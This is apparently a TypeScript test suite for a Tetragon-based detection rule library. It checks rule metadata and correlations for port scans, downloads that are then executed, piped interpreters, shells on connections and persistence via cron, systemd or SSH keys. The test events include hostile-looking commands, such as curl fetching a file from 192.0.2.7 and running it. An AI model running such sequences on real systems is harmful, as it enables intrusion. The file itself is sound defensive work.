import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Event, EventKey, Process } from '@tetragon-ts/api'
import {
  Correlator,
  compileRules,
  type Expression,
  type LinkedRules,
  type PortableCorrelation,
  type PortableFilter,
  PortableFilters,
  type PortableRule,
  portableCorrelations,
  portableRule,
  restoredCorrelations,
  restoredFilter,
  restoredRule,
} from '@tetragon-ts/rules'
import { readLibrary, triggers } from './library.ts'
import { commandOf, type Trigger } from './trigger.ts'

const { linked, diagnostics } = readLibrary()
const set = compileRules(linked)
const heads = [
  ...linked.rules.map(({ rule }) => rule),
  ...linked.correlations.map((each) => each.correlation),
]
/** Rules that are findings by themselves. */
const findings = linked.rules.filter(({ rule }) => !rule.file.startsWith('correlations/'))

function event(key: EventKey, process: Process, parent: Process, more: object = {}): Event {
  const body = { process, parent, ...more }
  return { key, body, response: { [key]: body, time: '2026-01-01T00:00:00Z' } } as unknown as Event
}

/** Arguments as events have them. */
const joined = (args: readonly string[]) =>
  args.map((each) => (/[\s"]|^$/.test(each) ? JSON.stringify(each) : each)).join(' ')

/** Files of the rules that find a command; undefined for scripts. */
function found(trigger: Trigger): string[] | undefined {
  const command = commandOf(trigger, '/opt/x')
  if (command === undefined) return undefined
  const { program, args, parent } = command
  const process = { binary: program, arguments: joined(args) }
  const matches = set.evaluateEvent(event('process_exec', process, { binary: parent }))
  return matches.filter((each) => each.suppressedBy === undefined).map(({ rule }) => rule.file)
}

/** The rules as an agent's reader has them. */
function passedOn(rules: LinkedRules): LinkedRules {
  const known = new PortableFilters()
  const copy = <Value>(value: Value): Value => JSON.parse(JSON.stringify(value)) as Value
  const portable: PortableRule[] = copy(rules.rules.map((each) => portableRule(each, known)))
  const filters = copy<PortableFilter[]>(known.all).map(restoredFilter)
  const byNumber = new Map(filters.entries())
  const restored = portable.map((each) => restoredRule(each, byNumber))
  const correlations = copy<PortableCorrelation[]>(portableCorrelations(rules))
  return {
    rules: restored,
    correlations: restoredCorrelations(correlations, restored),
    diagnostics: [],
  }
}

/** A condition with the trees of its expressions, and without positions. */
function content(expression: Expression): unknown {
  if (expression.kind === 'not') return ['not', content(expression.of)]
  if (expression.kind !== 'test') return [expression.kind, ...expression.of.map(content)]
  const { field, test } = expression
  if (test.kind !== 'regexp') return [field, test]
  return [field, test.source, test.flags, test.pattern.syntax]
}

describe('rule library', () => {
  it('is free of errors and warnings', () => assert.deepEqual(diagnostics, []))

  it('is the same when it was passed on as JSON', () => {
    const restored = passedOn(linked)
    const contents = ({ rules }: LinkedRules) =>
      rules.map(({ rule, filters, alone }) => ({
        ...{ title: rule.title, level: rule.level, alone, condition: content(rule.condition) },
        filters: filters.map(({ filter, condition }) => [filter.title, content(condition)]),
      }))
    assert.deepEqual(contents(restored), contents(linked))
    const correlated = ({ correlations }: LinkedRules) =>
      correlations.map(({ correlation: { aliases, groupBy, title }, parts, fields }) => ({
        ...{ aliases, groupBy, title, parts: parts.map((each) => each.title) },
        fields: [...fields].map(([rule, each]) => [rule.title, each]),
      }))
    assert.deepEqual(correlated(restored), correlated(linked))
    assert.equal(compileRules(restored).byteLength, set.byteLength)
  })

  it('has rules for at least 70 techniques', () => {
    const techniques = new Set(heads.flatMap((each) => each.techniques))
    assert.ok(findings.length >= 80, `${findings.length} rules`)
    assert.ok(techniques.size >= 70, `${techniques.size} techniques`)
  })

  it('has ids, names and titles that are unique', () => {
    for (const key of ['id', 'name', 'title'] as const) {
      const values = heads.map((each) => each[key])
      assert.equal(new Set(values).size, values.length, key)
      assert.ok(!values.includes(undefined), key)
    }
  })

  it('says of each rule what it finds, how bad that is, and what else it finds', () => {
    for (const { rule } of findings) {
      const { file, level, status, description = '', techniques, references } = rule
      assert.ok(level !== undefined && status !== undefined, file)
      assert.match(description, /^[A-Z].*\.$/, file)
      assert.ok(rule.falsePositives.length > 0, file)
      assert.ok(rule.tags.includes(`attack.${file.split('/')[0]}`), file)
      assert.ok(techniques.length > 0, file)
      const pages = techniques.map(
        (each) => `https://attack.mitre.org/techniques/${each.replace('.', '/')}/`,
      )
      assert.deepEqual(references, pages, file)
    }
  })

  it('has a trigger that hits and one that nearly does for each rule', () => {
    const files = findings.map(({ rule }) => rule.file.replace('.yaml', ''))
    assert.deepEqual(Object.keys(triggers).sort(), files.sort())
    for (const [name, { hits, misses }] of Object.entries(triggers)) {
      assert.ok(hits.length > 0 && misses.length > 0, name)
    }
  })

  for (const [name, { hits, misses }] of Object.entries(triggers)) {
    const isHit = (trigger: Trigger) => found(trigger)?.includes(`${name}.yaml`)
    it(`${name} finds its commands and no others`, () => {
      for (const each of hits) assert.notEqual(isHit(each), false, `hit ${JSON.stringify(each)}`)
      for (const each of misses) assert.notEqual(isHit(each), true, `miss ${JSON.stringify(each)}`)
    })
  }

  it('finds what is moved into place, which needs kprobes', () => {
    const moved = (folder: string, file: string): string[] => {
      const args = [
        { label: 'folder', path_arg: { path: folder } },
        { label: 'file', path_arg: { path: `${folder}/${file}` } },
      ]
      const hook = { function_name: 'security_path_rename', policy_name: 'moved-into-place', args }
      const process = { binary: '/bin/mv' }
      const matches = set.evaluateEvent(event('process_kprobe', process, process, hook))
      return matches.map(({ rule }) => rule.name ?? '')
    }
    assert.deepEqual(moved('/etc/cron.d', 'x'), ['job_moved_into_place'])
    assert.deepEqual(moved('/etc/systemd/system', 'x.service'), ['service_moved_into_place'])
    assert.deepEqual(moved('/root', '.bashrc'), ['profile_moved_into_place'])
    assert.deepEqual(moved('/root/.ssh', 'authorized_keys'), ['login_moved_into_place'])
    assert.deepEqual(moved('/usr/bin', 'x'), [])
  })

  it('leaves out what package managers start', () => {
    const process = { binary: '/usr/sbin/useradd', arguments: 'service' }
    for (const [binary, isSuppressed] of [
      ['/usr/bin/dpkg', true],
      ['/tmp/usr/bin/dpkg', false],
    ] as const) {
      const matches = set.evaluateEvent(event('process_exec', process, { binary }))
      const match = matches.find(({ rule }) => rule.name === 'account_created')
      assert.equal(match?.suppressedBy !== undefined, isSuppressed, binary)
    }
  })
})

/** Titles of the correlations that events make true, one event each second. */
function correlated(events: readonly Event[]): string[] {
  const correlator = new Correlator(linked.correlations)
  return events.flatMap((each, i) =>
    set.evaluateEvent(each).flatMap(({ rule, subject }) => {
      const counted = { rule, subject, timeMs: i * 1000, id: String(i) }
      return correlator.add(counted).map(({ correlation }) => correlation.title)
    }),
  )
}

describe('correlations of the rule library', () => {
  const process: Process = { exec_id: 'a', binary: '/usr/bin/x' }
  const parent: Process = { exec_id: 'p', binary: '/bin/sh' }

  it('finds scans of ports and of addresses', () => {
    const connect = (daddr: string, dport: number) =>
      event('process_kprobe', process, parent, {
        function_name: 'tcp_connect',
        args: [{ sock_arg: { saddr: '192.0.2.1', sport: 1, daddr, dport } }],
      })
    const ports = Array.from({ length: 20 }, (_, i) => connect('192.0.2.7', i + 1))
    assert.deepEqual(correlated(ports), ['Many ports tried by one process'])
    assert.deepEqual(correlated(ports.slice(1)), [])
    const same = Array.from({ length: 50 }, () => connect('192.0.2.7', 443))
    assert.deepEqual(correlated(same), [])
  })

  it('finds repeated failures of authentication', () => {
    const refused = (result: number) =>
      event('process_uprobe', process, parent, {
        symbol: 'pam_authenticate',
        args: [{ int_arg: result }],
      })
    const five = Array.from({ length: 5 }, () => refused(7))
    assert.deepEqual(correlated(five), ['Many authentications refused'])
    assert.deepEqual(correlated(five.slice(1)), [])
    assert.deepEqual(correlated(five.map(() => refused(0))), [])
  })

  const exec = (binary: string, text: string) =>
    event('process_exec', { binary, arguments: text }, parent)

  it('finds what is written and then executed', () => {
    const written = exec('/usr/bin/curl', '-o /tmp/x http://192.0.2.7/x')
    const started = exec('/tmp/x', '')
    assert.deepEqual(correlated([written, started]), ['File written and then executed'])
    assert.deepEqual(correlated([started, written]), [])
  })

  it('finds many kinds of discovery by one parent', () => {
    const names = ['whoami', 'lsmod', 'groups', 'lsblk', 'lspci', 'ps', 'netstat']
    const all = names.map((name) => exec(`/usr/bin/${name}`, ''))
    assert.deepEqual(correlated(all), ['Many kinds of discovery by one parent'])
    assert.deepEqual(correlated([...all.slice(1), ...all.slice(1)]), [])
  })

  const connection = (subject: Process, dport: number, daddr = '192.0.2.7') =>
    event('process_kprobe', subject, parent, {
      function_name: 'tcp_connect',
      args: [{ sock_arg: { saddr: '192.0.2.1', sport: 1, daddr, dport } }],
    })

  it('finds a process that connects and becomes a shell', () => {
    const shell = (pid: number, text: string) =>
      event('process_exec', { binary: '/bin/sh', arguments: text, pid }, parent)
    const connected = connection({ ...process, pid: 7 }, 4443)
    const title = 'Shell on a connection'
    assert.ok(correlated([connected, shell(7, '-i')]).includes(title))
    assert.ok(!correlated([connected, shell(8, '')]).includes(title))
    assert.ok(!correlated([connected, shell(7, '-c id')]).includes(title))
    const local = connection({ ...process, pid: 7 }, 4443, '127.0.0.1')
    assert.ok(!correlated([local, shell(7, '')]).includes(title))
  })

  it('finds a download that is passed to an interpreter', () => {
    const title = 'Download passed to an interpreter by a pipe'
    const text = exec('/usr/bin/curl', '-s https://192.0.2.7/x')
    assert.ok(correlated([text, exec('/bin/sh', '')]).includes(title))
    assert.ok(!correlated([text, exec('/bin/sh', 'script')]).includes(title))
    const file = exec('/usr/bin/curl', '-o x https://192.0.2.7/x')
    assert.ok(!correlated([file, exec('/bin/sh', '')]).includes(title))
  })

  it('finds ports that are tried by children of a shell', () => {
    const title = 'Many ports tried by shells'
    const tries = Array.from({ length: 10 }, (_, i) =>
      connection({ exec_id: `c${i}`, binary: '/bin/bash' }, 8000 + i),
    )
    assert.ok(correlated(tries).includes(title))
    assert.ok(!correlated(tries.slice(1)).includes(title))
  })

  it('finds decoded text that is passed to an interpreter', () => {
    const title = 'Decoded text passed to an interpreter by a pipe'
    const decoded = exec('/usr/bin/base64', '-d')
    assert.ok(correlated([decoded, exec('/bin/bash', '')]).includes(title))
    assert.ok(!correlated([decoded, exec('/bin/bash', 'script')]).includes(title))
    assert.ok(!correlated([exec('/usr/bin/base64', ''), exec('/bin/bash', '')]).includes(title))
  })

  it('finds many machines, logins and names, but not the same one again', () => {
    for (const [title, count, command] of [
      ['Many machines asked by commands of one parent', 10, ['ping', '-c 1 192.0.2.']],
      ['Many logins tried by commands of one parent', 6, ['ssh', 'a@192.0.2.']],
      ['Many names looked up by commands of one parent', 12, ['dig', 'x.example.']],
    ] as const) {
      const tries = Array.from({ length: count }, (_, i) =>
        exec(`/usr/bin/${command[0]}`, `${command[1]}${i}`),
      )
      assert.ok(correlated(tries).includes(title), title)
      assert.ok(!correlated(tries.slice(1)).includes(title), title)
      assert.ok(!correlated(tries.map(() => tries[0])).includes(title), title)
    }
  })
})
